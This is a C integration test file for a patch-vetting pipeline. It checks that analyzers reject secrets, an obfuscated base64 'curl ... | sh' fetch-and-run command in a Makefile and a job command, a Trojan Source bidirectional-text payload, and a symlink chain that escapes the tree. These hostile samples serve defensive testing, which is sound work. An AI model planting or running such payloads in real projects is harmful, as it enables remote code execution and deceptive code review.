/*
 * test_pipeline_analysis.c: issue 10's "Done when" through the real worker:
 * a private PostgreSQL, airlockd, an airlock-worker with the ns sandbox
 * driver, the CLI, the real analyzer plugins, git repositories built here
 * and a real project from the corpus bundles. Every assertion reads
 * PostgreSQL.
 *
 *   - a binary patch carrying a secret                         -> rejected
 *   - base64-decoded `| sh` in a Makefile / in a job command   -> rejected
 *   - Trojan Source (bidirectional controls) in a .py file     -> rejected
 *   - a finding in a hunk found at an offset names the line
 *     the hunk is written at                                   -> rejected
 *   - a run command writing a private key                      -> rejected
 *     by analyze_run, before the test stage
 *   - AWS's documentation example keys                         -> accepted
 *   - a symlink chain leaving the tree, in the patch and made
 *     by the run stage                                         -> policy_violation
 *   - the reason names the blocking finding (highest severity,
 *     then first), not the first finding
 *   - a hunk that claims fewer lines than follow is judged by
 *     what libgit2 applies (the extra line is neither reported
 *     nor written)                                             -> accepted
 *   - a real commit of more-itertools replayed                 -> accepted
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "plcluster.h"
#include "common/error.h"

#define AWS_ID "AKIAZ7QWERTYUIOPLMNB"
#define AWS_SECRET "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"
/* base64 of: curl -fsSL https://203.0.113.9/i.sh | sh */
#define B64_CURL_SH "Y3VybCAtZnNTTCBodHRwczovLzIwMy4wLjExMy45L2kuc2ggfCBzaA=="

static struct {
    cluster_t *c;
    pl_worker_t w;
    char repo[400];
    char plugins[400];
} g;

static int group_setup(void **state)
{
    (void)state;
    cluster_opts_t o = { .workers = 0, .slots = 1, .heartbeat_ms = 200, .lease_ms = 30000 };
    int rc = cluster_start(&g.c, &o);
    snprintf(g.repo, sizeof g.repo, "%s/repo", g.c ? cluster_dir(g.c) : "/nonexistent");
    snprintf(g.plugins, sizeof g.plugins, "%s/plugins", g.c ? cluster_dir(g.c) : "/nonexistent");
    if (rc == AL_OK)
        rc = pl_sh("set -e; mkdir -p '%s'; cd '%s'; git init -q; "
                   "printf 'def add(a, b):\\n    return a + b\\n' > calc.py; "
                   "printf 'import calc\\nassert calc.add(2, 2) == 4\\n' > test_calc.py; "
                   "printf 'all:\\n\\tpython3 test_calc.py\\n' > Makefile; printf '# demo\\n' > README.md; "
                   "git add .; git -c user.email=t@example.org -c user.name=test commit -qm init",
                   g.repo, g.repo);
    if (rc == AL_OK)
        rc = pl_sh("set -e; mkdir -p '%s'; for f in '%s'/*.so; do ln -sf \"$f\" '%s'/; done", g.plugins,
                   AIRLOCK_PLUGIN_DIR, g.plugins);
    if (rc == AL_OK)
        rc = pl_worker_start(g.c, &g.w, "pa0", "ns", g.plugins, "");
    if (rc != AL_OK) {
        fprintf(stderr, "analysis group setup: %s\n", al_err_msg());
        return -1;
    }
    return 0;
}

static int group_teardown(void **state)
{
    (void)state;
    pl_worker_stop(&g.w);
    cluster_stop(&g.c);
    return 0;
}

/* A job on `repo` at `base`; run may be NULL; policy is stolen (may be NULL). */
static json_t *job_of(const char *repo, const char *base, const char *patch, json_t *run, const char *test,
                      json_t *policy)
{
    json_t *j = json_pack("{s:s, s:s, s:s, s:s, s:s}", "repo", repo, "base", base, "patch", patch ? patch : "",
                          "test", test, "driver", "ns");
    if (run)
        json_object_set_new(j, "run", run);
    if (policy)
        json_object_set_new(j, "policy", policy);
    return j;
}

/* Submits, waits, checks the verdict; returns the job id and (via *task) its task. */
static char *run_job(const char *name, json_t *job, const char *want, char **task)
{
    char *id = pl_submit(g.c, name, job);
    json_decref(job);
    if (!id)
        fail_msg("submit %s failed (logs in %s)", name, cluster_dir(g.c));
    char *verdict = pl_wait_verdict(g.c, id);
    char *reason = pl_sql_text(g.c, "SELECT coalesce(reason, '') FROM jobs WHERE id = '%s'", id);
    printf("%s: %s (%s)\n", name, verdict, reason ? reason : "?");
    if (strcmp(verdict, want) != 0)
        fail_msg("%s: verdict '%s', want '%s' (reason: %s; logs in %s)", name, verdict, want, reason ? reason : "?",
                 cluster_dir(g.c));
    free(verdict);
    free(reason);
    assert_int_equal(pl_worker_task_dirs(&g.w), 0);
    assert_int_equal(pl_worker_descendants(&g.w), 0);
    *task = pl_sql_text(g.c, "SELECT task_id FROM jobs WHERE id = '%s'", id);
    assert_non_null(*task);
    return id;
}

static void reason_has(const char *id, const char *needle)
{
    char *reason = pl_sql_text(g.c, "SELECT coalesce(reason, '') FROM jobs WHERE id = '%s'", id);
    assert_non_null(reason);
    if (!strstr(reason, needle))
        fail_msg("reason '%s' lacks '%s'", reason, needle);
    free(reason);
}

static long count(const char *fmt, const char *task)
{
    return pl_sql_long(g.c, fmt, task);
}

static void nothing_ran(const char *task)
{
    assert_int_equal(count("SELECT count(*) FROM exec_events WHERE task_id = '%s'", task), 0);
    assert_int_equal(count("SELECT count(*) FROM stage_runs WHERE task_id = '%s' AND stage IN ('run', 'test')",
                           task), 0);
}

/* ---- patches ----------------------------------------------------------------- */

/* An AWS key id and secret in a .py file git sends as a GIT binary patch
 * (the file is marked binary in .git/info/attributes while the patch is made). */
static void binary_patch_secret_rejected(void **state)
{
    (void)state;
    char *patch = pl_patch(g.repo, "echo 'settings.py binary' > .git/info/attributes; "
                                   "printf 'KEY = \"" AWS_ID "\"\\nSECRET = \"" AWS_SECRET "\"\\n' > settings.py");
    assert_non_null(patch);
    assert_int_equal(pl_sh("rm -f '%s/.git/info/attributes'", g.repo), AL_OK);
    assert_non_null(strstr(patch, "GIT binary patch"));
    assert_null(strstr(patch, AWS_ID)); /* the text never shows it */
    char *task = NULL;
    char *id = run_job("binsecret", job_of(g.repo, "HEAD", patch, json_pack("[s]", "touch ran"), "true", NULL),
                       "rejected", &task);
    assert_true(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND rule_id = 'secrets.aws_access_key' "
                      "AND file = 'settings.py' AND blocking", task) >= 1);
    reason_has(id, "blocking: secrets.aws_secret_key (critical) in settings.py");
    nothing_ran(task);
    free(task), free(id), free(patch);
}

static void base64_sh_in_makefile_rejected(void **state)
{
    (void)state;
    char *patch = pl_patch(g.repo, "printf 'all:\\n\\tpython3 test_calc.py\\nsetup:\\n\\techo " B64_CURL_SH
                                   " | base64 -d | sh\\n' > Makefile");
    assert_non_null(patch);
    char *task = NULL;
    char *id = run_job("b64make", job_of(g.repo, "HEAD", patch, NULL, "true", NULL), "rejected", &task);
    assert_int_equal(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND rule_id = 'shell.decode_exec' "
                           "AND file = 'Makefile' AND line = 4 AND severity = 'critical' AND blocking", task), 1);
    reason_has(id, "blocking: shell.decode_exec (critical) in Makefile:4");
    nothing_ran(task);
    free(task), free(id), free(patch);
}

static void base64_sh_in_job_command_rejected(void **state)
{
    (void)state;
    char *task = NULL;
    json_t *run = json_pack("[s]", "echo " B64_CURL_SH " | base64 --decode | sh");
    char *id = run_job("b64cmd", job_of(g.repo, "HEAD", NULL, run, "true", NULL), "rejected", &task);
    assert_int_equal(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND rule_id = 'shell.decode_exec' "
                           "AND file = 'job:run[0]' AND blocking", task), 1);
    reason_has(id, "shell.decode_exec");
    nothing_ran(task);
    free(task), free(id);
}

/* Trojan Source (CVE-2021-42574): the early return reads as a comment to a
 * reviewer, as code to Python. The default analyzers include unicode, which
 * blocks it before anything runs; the tests would pass. */
static void trojan_source_rejected(void **state)
{
    (void)state;
    char *patch = pl_patch(g.repo, "printf 'def is_admin(user):\\n    return False  "
                                   "# \\342\\200\\256 } \\342\\201\\246 return True \\342\\201\\251 \\342\\201\\246\\n'"
                                   " >> calc.py");
    assert_non_null(patch);
    char *task = NULL;
    char *id = run_job("trojan", job_of(g.repo, "HEAD", patch, NULL, "python3 test_calc.py", NULL), "rejected",
                       &task);
    assert_int_equal(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND rule_id = 'unicode.bidi_control' "
                           "AND file = 'calc.py' AND line = 4 AND severity = 'high' AND blocking", task), 1);
    reason_has(id, "blocking: unicode.bidi_control (high) in calc.py:4");
    nothing_ran(task);
    free(task), free(id), free(patch);
}

/* A hunk whose header states line 5 of a two-line file: apply finds it at
 * line 1, as git apply does, so the key it adds is written at line 3. The
 * finding and the reason name line 3 (they named the stated line 7). */
static void finding_names_line_where_hunk_applies(void **state)
{
    (void)state;
    static const char patch[] = "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -5,2 +5,3 @@\n"
                                " def add(a, b):\n     return a + b\n+KEY = \"" AWS_ID "\"\n";
    char *task = NULL;
    char *id = run_job("movedkey", job_of(g.repo, "HEAD", patch, NULL, "true", NULL), "rejected", &task);
    assert_int_equal(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND rule_id = 'secrets.aws_access_key' "
                           "AND file = 'calc.py' AND line = 3 AND blocking", task), 1);
    reason_has(id, "blocking: secrets.aws_access_key (high) in calc.py:3");
    nothing_ran(task);
    free(task), free(id);
}

/* The run stage writes a private key: the analyzers see it after the run,
 * before the test stage starts; the verdict names the stage. */
static void run_writes_private_key_rejected(void **state)
{
    (void)state;
    char *task = NULL;
    json_t *run = json_pack("[s]", "printf -- '-----BEGIN RSA PRIVATE KEY-----\\n"
                                   "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\\n"
                                   "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\\n"
                                   "-----END RSA PRIVATE KEY-----\\n' > deploy.key");
    char *id = run_job("runkey", job_of(g.repo, "HEAD", NULL, run, "touch tested", NULL), "rejected", &task);
    reason_has(id, "analyze_run");
    reason_has(id, "blocking: secrets.private_key (critical) in deploy.key:2");   /* its first line of key material */
    assert_int_equal(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND rule_id = 'secrets.private_key' "
                           "AND file = 'deploy.key' AND blocking", task), 1);
    /* the run ran, the analysis after it is recorded, the test never started */
    assert_int_equal(count("SELECT count(*) FROM stage_runs WHERE task_id = '%s' AND stage = 'run'", task), 1);
    assert_int_equal(count("SELECT count(*) FROM stage_runs WHERE task_id = '%s' AND stage = 'analyze_run' "
                           "AND exit_status = 1", task), 1);
    assert_int_equal(count("SELECT count(*) FROM stage_runs WHERE task_id = '%s' AND stage = 'test'", task), 0);
    assert_int_equal(count("SELECT count(*) FROM exec_events WHERE task_id = '%s' AND stage = 'test'", task), 0);
    free(task), free(id);
}

static void doc_example_keys_accepted(void **state)
{
    (void)state;
    char *patch = pl_patch(g.repo, "printf '# demo\\n\\nConfigure the AWS CLI:\\n\\n    aws_access_key_id = "
                                   "AKIAIOSFODNN7EXAMPLE\\n    aws_secret_access_key = "
                                   "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\\n' > README.md");
    assert_non_null(patch);
    char *task = NULL;
    char *id = run_job("docs", job_of(g.repo, "HEAD", patch, NULL, "python3 test_calc.py", NULL), "accepted", &task);
    assert_int_equal(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND rule_id LIKE 'secrets.%%'", task),
                     0);
    free(task), free(id), free(patch);
}

/* Each link alone stays inside the tree; d/b -> a/.. leaves it through
 * d/a -> ... With the paths analyzer on, analysis rejects it first; without
 * it, gitops refuses it at apply, walking the chain. */
static void symlink_chain_in_patch_refused(void **state)
{
    (void)state;
    char *patch = pl_patch(g.repo, "mkdir -p d && ln -s .. d/a && ln -s a/.. d/b && ln -s b/../x d/k");
    assert_non_null(patch);
    char *task = NULL;
    char *id = run_job("chain1", job_of(g.repo, "HEAD", patch, json_pack("[s]", "touch ran"), "true",
                                        json_pack("{s:[s]}", "analyzers", "secrets")),
                       "policy_violation", &task);
    reason_has(id, "refused at apply");
    reason_has(id, "d/b (symlink_escape)");
    nothing_ran(task);
    free(task), free(id);
    id = run_job("chain2", job_of(g.repo, "HEAD", patch, NULL, "true", NULL), "rejected", &task);
    reason_has(id, "paths.symlink_escape (critical) in d/b");
    free(task), free(id), free(patch);
}

static void symlink_chain_by_run_refused(void **state)
{
    (void)state;
    char *task = NULL;
    json_t *run = json_pack("[s]", "mkdir -p d && ln -s .. d/a && ln -s a/.. d/b && ln -s b/../x d/k");
    char *id = run_job("chainrun", job_of(g.repo, "HEAD", NULL, run, "touch tested", NULL), "policy_violation",
                       &task);
    reason_has(id, "symlinks made by the run stage");
    reason_has(id, "d/b (symlink_escape");
    assert_int_equal(count("SELECT count(*) FROM stage_runs WHERE task_id = '%s' AND stage = 'test'", task), 0);
    free(task), free(id);
}

/* Two blocking findings: the first reported is high (an AWS key id in
 * a.env, found first), the other critical (a private key in z.pem). The
 * reason names the critical one. */
static void reason_names_blocking_finding(void **state)
{
    (void)state;
    char *patch = pl_patch(g.repo, "printf 'ID=" AWS_ID "\\n' > a.env; "
                                   "printf -- '-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n"
                                   "-----END PRIVATE KEY-----\\n' > z.pem");
    assert_non_null(patch);
    char *task = NULL;
    char *id = run_job("blocking", job_of(g.repo, "HEAD", patch, NULL, "true", NULL), "rejected", &task);
    char *first = pl_sql_text(g.c, "SELECT rule_id FROM findings WHERE task_id = '%s' ORDER BY id LIMIT 1", task);
    assert_non_null(first);
    assert_string_equal(first, "secrets.aws_access_key");
    reason_has(id, "2 finding(s) at or above high; blocking: secrets.private_key (critical) in z.pem:2");
    free(first), free(task), free(id), free(patch);
}

/* The patch's text holds a '+' line after its hunk's count: libgit2 does not
 * apply it, so it is neither reported nor written. */
static void hunk_count_judged_by_libgit2_accepted(void **state)
{
    (void)state;
    static const char patch[] = "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n"
                                " def add(a, b):\n-    return a + b\n+    return b + a\n"
                                "+KEY = \"" AWS_ID "\"\n";
    char *task = NULL;
    char *id = run_job("hunklie", job_of(g.repo, "HEAD", patch, NULL, "python3 test_calc.py", NULL), "accepted",
                       &task);
    assert_int_equal(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND rule_id LIKE 'secrets.%%'", task),
                     0);
    /* the diff of what was written holds the real change and not the key */
    assert_int_equal(count("SELECT count(*) FROM artifacts WHERE task_id = '%s' AND kind = 'diff' AND "
                           "convert_from(content, 'UTF8') LIKE '%%return b + a%%' AND "
                           "convert_from(content, 'UTF8') NOT LIKE '%%" AWS_ID "%%'", task), 1);
    free(task), free(id);
}

/* Code nobody here wrote: a real more-itertools commit, replayed as its
 * patch on its parent, tested with the project's own tests. */
static void real_commit_replay_accepted(void **state)
{
    (void)state;
    char bundle[600], repo[600], patchf[700];
    snprintf(bundle, sizeof bundle, "%s/more-itertools.bundle", AIRLOCK_CORPUS_BUNDLES);
    if (access(bundle, R_OK) != 0) {
        printf("SKIP real_commit_replay_accepted: no corpus bundle at %s\n", bundle);
        skip();
    }
    snprintf(repo, sizeof repo, "%s/more-itertools", cluster_dir(g.c));
    snprintf(patchf, sizeof patchf, "%s.patch", repo);
    assert_int_equal(pl_sh("git clone -q '%s' '%s' && cd '%s' && git format-patch -1 --stdout 237388c > '%s' && "
                           "git rev-parse 237388c^ > '%s.base'", bundle, repo, repo, patchf, patchf), AL_OK);
    char basef[720], parent[64] = "";
    snprintf(basef, sizeof basef, "%s.base", patchf);
    FILE *bf = fopen(basef, "r");
    assert_non_null(bf);
    assert_non_null(fgets(parent, sizeof parent, bf));
    fclose(bf);
    parent[strcspn(parent, "\n")] = '\0';
    char *base = NULL;
    FILE *f = fopen(patchf, "rb");
    assert_non_null(f);
    size_t cap = 1 << 20, len = fread(base = malloc(cap), 1, cap - 1, f);
    fclose(f);
    base[len] = '\0';
    char *task = NULL;
    char *id = run_job("replay", job_of(repo, parent, base, NULL,
                                        "python3 -m unittest discover -s tests -p test_recipes.py", NULL),
                       "accepted", &task);
    assert_int_equal(count("SELECT count(*) FROM findings WHERE task_id = '%s' AND blocking", task), 0);
    free(task), free(id), free(base);
}

int main(void)
{
    if (geteuid() != 0) {
        printf("SKIP: the ns sandbox and the private PostgreSQL need root here\n");
        return 77;
    }
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(binary_patch_secret_rejected),
        cmocka_unit_test(base64_sh_in_makefile_rejected),
        cmocka_unit_test(base64_sh_in_job_command_rejected),
        cmocka_unit_test(trojan_source_rejected),
        cmocka_unit_test(finding_names_line_where_hunk_applies),
        cmocka_unit_test(run_writes_private_key_rejected),
        cmocka_unit_test(doc_example_keys_accepted),
        cmocka_unit_test(symlink_chain_in_patch_refused),
        cmocka_unit_test(symlink_chain_by_run_refused),
        cmocka_unit_test(reason_names_blocking_finding),
        cmocka_unit_test(hunk_count_judged_by_libgit2_accepted),
        cmocka_unit_test(real_commit_replay_accepted),
    };
    if (getenv("PIPELINE_FILTER"))
        cmocka_set_test_filter(getenv("PIPELINE_FILTER"));
    return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
